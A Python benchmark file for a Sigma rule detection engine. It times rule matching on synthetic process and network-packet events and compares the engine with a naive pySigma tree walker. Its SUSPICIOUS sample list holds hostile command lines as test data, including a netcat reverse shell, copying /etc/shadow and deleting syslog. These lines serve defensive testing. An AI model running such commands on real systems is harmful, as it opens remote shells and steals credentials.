"""Detection engine throughput and memory, side by side with a naive pySigma tree walker.

Measured on one core (single-threaded) as CPU time of this process (``time.process_time``), so
other load on a shared machine does not count; events are pre-built in chunks so that only
``Engine.process`` is timed:

0. the headline: every SigmaHQ Linux rule plus every shipped rule over a *mixed* corpus that
   exercises every logsource those rules route on that a busy web/app server produces all the
   time, in its proportions (:mod:`bench.corpus`: auditd 25 %, process_creation 25 %,
   web_access 12 %, file_event 10 %, network_connection 8 %, sshd/sudo/su/cron/auth syslog
   lines 15 %, network_packet 4 %, dns 1 %), ``BENCH_ENGINE_MIXED_EVENTS`` (default 200 k)
   events per run (goal ≥ 150k events/s);
1. 50 single-event SigmaHQ process rules over ``BENCH_ENGINE_EVENTS`` (default 1 M) events
   (target ≥ 250k events/s), and the same rules walked per event as pySigma condition trees
   (no compilation, no index; fewer events, the rate is what counts);
2. all compiled SigmaHQ Linux rules over process events only (target ≥ 100k events/s), and
   naive;
3. network correlations (value_count vertical port scan + event_count SYN flood) over 1 M packet
   events (target ≥ 500k events/s);
4. memory: RSS growth while 1 M SYNs from distinct spoofed sources go through the same
   correlations (target ≤ 150 MB); group state is bounded by ``max_groups``;
5. a flood from one source to five ports (1 M SYNs over 100 s): the items one group keeps
   (timestamps, values, one-second buckets) must not grow with the event rate.

Every throughput row is the **median of** ``BENCH_RUNS`` (default 5) runs, each on a fresh
engine, with the minimum and maximum in its note (never the best run). SigmaHQ rules are read
in place from ``../shared/sigmahq`` (``BENCH_SIGMAHQ`` overrides).
"""

from __future__ import annotations

import gc
import os
import random
import re
import tempfile
import textwrap
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

from sigma.collection import SigmaCollection
from sigma.conditions import (
    ConditionAND,
    ConditionFieldEqualsValueExpression,
    ConditionNOT,
    ConditionOR,
    ConditionValueExpression,
)
from sigma.rule import SigmaRule
from sigma.types import SigmaNull, SigmaRegularExpression, SigmaString

from agent.detection import Engine, LoadReport, load_rules
from agent.detection.sigma_pipeline import vedette_pipeline
from agent.events import Event, LogSource
from bench.common import BenchResult
from bench.corpus import chunks, mixed_events, shares

REPO = Path(__file__).resolve().parents[1]
SIGMAHQ = Path(os.environ.get("BENCH_SIGMAHQ", REPO.parent / "shared" / "sigmahq"))
EVENTS = int(os.environ.get("BENCH_ENGINE_EVENTS", "1000000"))
NAIVE_EVENTS = int(os.environ.get("BENCH_ENGINE_NAIVE_EVENTS", "5000"))
MIXED_EVENTS = int(os.environ.get("BENCH_ENGINE_MIXED_EVENTS", "200000"))
RUNS = max(5, int(os.environ.get("BENCH_RUNS", "5")))
CHUNK = 100_000
PROC = LogSource("linux", "process_creation")
PACKET = LogSource("vedette", "network_packet")
T0 = 1_767_225_600.0

BENIGN = [
    ("/usr/bin/ls", "ls -la /var/log"), ("/usr/bin/git", "git status --short"),
    ("/usr/bin/python3", "python3 manage.py migrate"), ("/usr/sbin/nginx", "nginx -s reload"),
    ("/usr/bin/cat", "cat /etc/os-release"), ("/usr/bin/grep", "grep -r TODO src"),
    ("/usr/lib/systemd/systemd", "systemd --user"), ("/usr/bin/bash", "bash -c 'make test'"),
    ("/usr/bin/ssh", "ssh deploy@198.18.0.10 uptime"), ("/usr/bin/docker", "docker ps -a"),
    ("/usr/bin/tar", "tar czf /var/backups/www.tgz /var/www"), ("/usr/bin/awk", "awk '{print $1}'"),
    ("/usr/bin/sed", "sed -i s/a/b/ file"), ("/usr/bin/find", "find /srv -mtime +7 -delete"),
    ("/usr/bin/id", "id -u"), ("/usr/bin/curl", "curl -fsS http://127.0.0.1:9787/metrics"),
]
SUSPICIOUS = [
    ("/usr/bin/nc", "nc 198.18.9.9 4444 -e /bin/bash"),
    ("/usr/bin/cp", "cp /etc/shadow /tmp/s"),
    ("/usr/bin/rm", "rm -f /var/log/syslog"),
    ("/usr/bin/python3.11", "python3 -m http.server 8000"),
    ("/usr/bin/find", "find . -exec /bin/sh \\;"),
    ("/usr/bin/base64", "base64 -d /tmp/x.b64"),
]


UNIQUE_ARGS = 0.6


def process_events(
    n: int, seed: int = 1, unique_args: float = UNIQUE_ARGS
) -> Iterator[list[Event]]:
    """Chunks of process events: ~98 % routine commands, ~2 % suspicious ones; 60 % of the
    command lines carry a unique argument (temp files, ids), so most are never seen twice."""
    rnd = random.Random(seed)
    users = ["root", "www-data", "deploy", "alice"]
    done = 0
    while done < n:
        size = min(CHUNK, n - done)
        chunk = []
        for i in range(size):
            exe, cmd = rnd.choice(SUSPICIOUS) if rnd.random() < 0.02 else rnd.choice(BENIGN)
            if rnd.random() < unique_args:
                cmd = f"{cmd} /tmp/job-{done + i:x}"
            parent = rnd.choice(BENIGN)[0]
            chunk.append(Event(T0 + (done + i) * 1e-3, PROC, {
                "process.executable": exe, "process.command_line": cmd,
                "process.name": exe.rsplit("/", 1)[1], "process.pid": 1000 + i,
                "process.parent.executable": parent, "user.name": rnd.choice(users),
            }))
        done += size
        yield chunk


def packet_events(n: int, seed: int = 2) -> Iterator[list[Event]]:
    """SYN-heavy packet events from ~1000 sources to three services of one host."""
    rnd = random.Random(seed)
    done = 0
    while done < n:
        size = min(CHUNK, n - done)
        chunk = []
        for i in range(size):
            k = done + i
            src = f"198.18.{rnd.randrange(4)}.{rnd.randrange(250)}"
            chunk.append(Event(T0 + k * 1e-5, PACKET, {
                "source.ip": src, "source.port": rnd.randrange(1024, 65535),
                "destination.ip": "198.18.100.1", "destination.port": rnd.choice((22, 80, 443)),
                "network.transport": "tcp", "tcp.flags.syn": True,
                "tcp.flags.ack": rnd.random() < 0.3,
            }))
        done += size
        yield chunk


def spoofed_stream(n: int) -> Iterator[Event]:
    for k in range(n):
        yield Event(T0 + k * 1e-5, PACKET, {
            "source.ip": f"10.{k >> 16 & 255}.{k >> 8 & 255}.{k & 255}",
            "source.port": 1024 + k % 60000, "destination.ip": "198.18.100.1",
            "destination.port": 1 + k % 1000, "network.transport": "tcp",
            "tcp.flags.syn": True, "tcp.flags.ack": False,
        })


def one_source_flood(n: int) -> Iterator[Event]:
    for k in range(n):
        yield Event(T0 + k * 1e-4, PACKET, {
            "source.ip": "198.18.7.7", "source.port": 40000 + k % 20000,
            "destination.ip": "198.18.100.1", "destination.port": (22, 80, 443, 8080, 3306)[k % 5],
            "network.transport": "tcp", "tcp.flags.syn": True, "tcp.flags.ack": False,
        })


def _items_per_group(engine: Engine, rule_id: str) -> int:
    """The most items a group of one correlation keeps (timestamps, values, buckets, heap)."""
    most = 0
    for state in [engine.states[rule_id]]:
        for group in state.groups.values():
            parts = [getattr(group, name, ()) for name in
                     ("queue", "seen", "order", "late", "buckets")]
            most = max(most, sum(len(p) for p in parts))
    return most


def timed(engine: Engine, chunks: Iterator[list[Event]]) -> tuple[float, int, int]:
    """(seconds spent in process, events, alert snapshots)."""
    spent, events, alerts = 0.0, 0, 0
    for chunk in chunks:
        gc.collect()
        process = engine.process
        start = time.process_time()
        for event in chunk:
            alerts += len(process(event))
        spent += time.process_time() - start
        events += len(chunk)
    return spent, events, alerts


def repeated(make: Callable[[], Engine], events: Callable[[], Iterator[list[Event]]]
             ) -> tuple[float, str, int, int]:
    """Median rate of ``RUNS`` runs (fresh engine each), a note with min/max, events, alerts."""
    rates: list[float] = []
    n = alerts = 0
    for _ in range(RUNS):
        spent, n, alerts = timed(make(), events())
        rates.append(n / spent)
    rates.sort()
    median = rates[len(rates) // 2] if len(rates) % 2 else (
        rates[len(rates) // 2 - 1] + rates[len(rates) // 2]) / 2
    note = (f"median of {RUNS} runs (min {rates[0]:,.0f}, max {rates[-1]:,.0f} events/s)")
    return median, note, n, alerts


# --------------------------------------------------------------------------- naive baseline


class NaiveWalker:
    """What the engine replaces: pySigma's condition tree walked for every rule and event."""

    def __init__(self, paths: list[Path]) -> None:
        self.rules: list[tuple[tuple[Any, Any, Any], Any]] = []
        self.regex: dict[int, re.Pattern[str]] = {}
        pipeline = vedette_pipeline()
        for path in paths:
            import yaml  # noqa: PLC0415

            docs = [d for d in yaml.safe_load_all(path.read_text()) if d]
            for rule in SigmaCollection.from_dicts(docs, collect_errors=True).rules:
                if isinstance(rule, SigmaRule) and not rule.errors:
                    pipeline.apply(rule)
                    ls = rule.logsource
                    tree = rule.detection.parsed_condition[0].parsed
                    self.rules.append(((ls.product, ls.category, ls.service), tree))

    def matches(self, event: Event) -> int:
        hits = 0
        for (product, category, service), tree in self.rules:
            ls = event.logsource
            if (product and product != ls.product) or (category and category != ls.category) \
                    or (service and service != ls.service):
                continue
            if self.walk(tree, event.fields):
                hits += 1
        return hits

    def walk(self, node: Any, fields: dict[str, Any]) -> bool:
        if isinstance(node, ConditionAND):
            return all(self.walk(a, fields) for a in node.args)
        if isinstance(node, ConditionOR):
            return any(self.walk(a, fields) for a in node.args)
        if isinstance(node, ConditionNOT):
            return not self.walk(node.args[0], fields)
        if isinstance(node, ConditionFieldEqualsValueExpression):
            return self.leaf(node.value, fields.get(node.field))
        if isinstance(node, ConditionValueExpression):
            return self.leaf(node.value, fields.get("message"), keyword=True)
        return False

    def leaf(self, value: Any, actual: Any, keyword: bool = False) -> bool:
        if isinstance(value, SigmaNull):
            return actual is None
        if actual is None:
            return False
        if isinstance(value, SigmaRegularExpression):
            return re.search(str(value.regexp), str(actual)) is not None
        if isinstance(value, SigmaString):
            pattern = self.regex.get(id(value))
            if pattern is None:
                body = value.to_regex().regexp.to_plain() if hasattr(value, "to_regex") else ""
                body = f".*{body}.*" if keyword else body
                pattern = self.regex[id(value)] = re.compile(body, re.I | re.S)
            return pattern.fullmatch(str(actual)) is not None
        return str(value).lower() == str(actual).lower()


def naive_rate(walker: NaiveWalker, n: int) -> float:
    events = next(process_events(n, seed=3))
    start = time.process_time()
    for event in events:
        walker.matches(event)
    return len(events) / (time.process_time() - start)


# --------------------------------------------------------------------------- scenarios

NETWORK_RULES = """\
title: TCP SYN without ACK
id: 9a7d0c52-6a0b-4c6e-9d7e-000000000001
name: bench_tcp_syn
logsource: {product: vedette, category: network_packet}
detection:
  syn: {tcp.flags.syn: true, tcp.flags.ack: false}
  condition: syn
---
title: Vertical port scan
id: 9a7d0c52-6a0b-4c6e-9d7e-000000000002
correlation:
  type: value_count
  rules: [bench_tcp_syn]
  group-by: [source.ip, destination.ip]
  timespan: 30s
  condition: {gte: 50, field: destination.port}
---
title: SYN flood
id: 9a7d0c52-6a0b-4c6e-9d7e-000000000003
correlation:
  type: event_count
  rules: [bench_tcp_syn]
  group-by: [destination.ip, destination.port]
  timespan: 10s
  condition: {gte: 1000}
"""


SCAN_ID = "9a7d0c52-6a0b-4c6e-9d7e-000000000002"
FLOOD_ID = "9a7d0c52-6a0b-4c6e-9d7e-000000000003"


def _rss_mb() -> float:
    pages = int(Path("/proc/self/statm").read_text().split()[1])
    return pages * os.sysconf("SC_PAGE_SIZE") / 2**20


def process_rule_files(limit: int | None) -> list[Path]:
    files = sorted((SIGMAHQ / "rules" / "linux" / "process_creation").glob("*.yml"))
    report = load_rules(files)
    good = sorted({r.source.path for r in report.ruleset.detections})
    return [Path(p) for p in good[:limit]] if limit else [Path(p) for p in good]


def _mix(events: list[Event]) -> str:
    return ", ".join(f"{k.removeprefix('linux/')} {v:.0%}" if v >= 0.01 else
                     f"{k.removeprefix('linux/')} {v:.1%}" for k, v in shares(events).items())


def run() -> BenchResult:
    result = BenchResult("engine")
    result.context = {"events": EVENTS, "naive_events": NAIVE_EVENTS, "sigmahq": str(SIGMAHQ)}
    scenarios: list[tuple[str, Callable[[], LoadReport], list[Path], str]] = []
    if SIGMAHQ.is_dir():
        report = load_rules([REPO / "rules"], [SIGMAHQ])
        result.context["mixed rules loaded"] = report.summary_line()
        corpus = mixed_events(MIXED_EVENTS)
        result.context["mixed corpus shares"] = shares(corpus)
        rate, note, n, alerts = repeated(lambda: Engine(report.ruleset),
                                         lambda: chunks(corpus))
        result.add("all SigmaHQ + shipped rules, mixed host corpus: engine", rate, "events/s",
                   ">= 150000", f"{n:,} events of every routed logsource ({_mix(corpus)}), "
                   f"{alerts:,} alert snapshots; {note}")
        del corpus
        fifty = process_rule_files(50)
        scenarios.append(("50 process rules", lambda: load_rules(fifty), fifty, ">= 250000"))
        linux = [p for p in SIGMAHQ.rglob("*.yml")]
        scenarios.append(("all SigmaHQ Linux rules", lambda: load_rules([], [SIGMAHQ]), linux,
                          ">= 100000"))
    for label, loader, files, target in scenarios:
        report = loader()
        result.context[f"{label} loaded"] = report.summary_line()
        rules = report.ruleset
        rate, note, n, alerts = repeated(lambda: Engine(rules),  # noqa: B023 - called here
                                         lambda: process_events(EVENTS))
        result.add(f"{label}: engine (process events only)", rate, "events/s", target,
                   f"{n:,} events ({UNIQUE_ARGS:.0%} unique command lines), "
                   f"{alerts:,} alert snapshots; {note}")
        rate, note, n, _ = repeated(lambda: Engine(rules),  # noqa: B023 - called here
                                    lambda: process_events(EVENTS // 5, unique_args=0))
        result.add(f"{label}: engine, repetitive stream", rate, "events/s", "",
                   f"{n:,} events drawn from ~1,000 distinct ones: memoised matches; {note}")
        walker = NaiveWalker(files)
        result.add(f"{label}: naive pySigma tree walk", naive_rate(walker, NAIVE_EVENTS),
                   "events/s", "", f"{len(walker.rules)} rules, {NAIVE_EVENTS:,} events")
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "network.yml"
        path.write_text(textwrap.dedent(NETWORK_RULES))
        report = load_rules([path])
        rate, note, n, alerts = repeated(lambda: Engine(report.ruleset),
                                         lambda: packet_events(EVENTS))
        result.add("network correlations (scan + flood): engine", rate, "events/s",
                   ">= 500000", f"{n:,} packets, {alerts:,} alert snapshots; {note}")
        # Memory: events built one at a time (freed at once) so RSS growth is engine state.
        gc.collect()
        engine = Engine(report.ruleset)
        before = _rss_mb()
        start = time.process_time()
        n = 0
        for event in spoofed_stream(EVENTS):
            engine.process(event)
            n += 1
        spent = time.process_time() - start
        gc.collect()
        groups = sum(len(s) for s in engine.states.values())
        result.add("1M spoofed sources: RSS growth", _rss_mb() - before, "MB", "<= 150",
                   f"{n:,} distinct sources, {groups:,} live groups (max_groups bound)")
        result.add("1M spoofed sources: build + process", n / spent, "events/s", "",
                   "includes building each event")
        # One source flooding one group: what the group keeps must not grow with the rate.
        engine = Engine(report.ruleset)
        start = time.process_time()
        n = 0
        for event in one_source_flood(EVENTS):
            engine.process(event)
            n += 1
        spent = time.process_time() - start
        result.add("1 source, 1M SYNs to 5 ports: items kept by the scan group",
                   _items_per_group(engine, SCAN_ID), "items", "<= 100",
                   f"{n:,} packets over {n * 1e-4:g} s into a 30 s value_count window: "
                   "5 values + one-second buckets")
        result.add("1 source, 1M SYNs to 5 ports: items kept by a flood group",
                   _items_per_group(engine, FLOOD_ID), "items", "<= 1000",
                   "event_count gte 1000 in 10 s: the newest 1,000 timestamps")
        result.add("1 source, 1M SYNs to 5 ports: build + process", n / spent, "events/s", "",
                   "includes building each event")
    return result


if __name__ == "__main__":
    from bench.common import table, write

    res = run()
    print(f"wrote {write(res)}")
    print(table([res]))
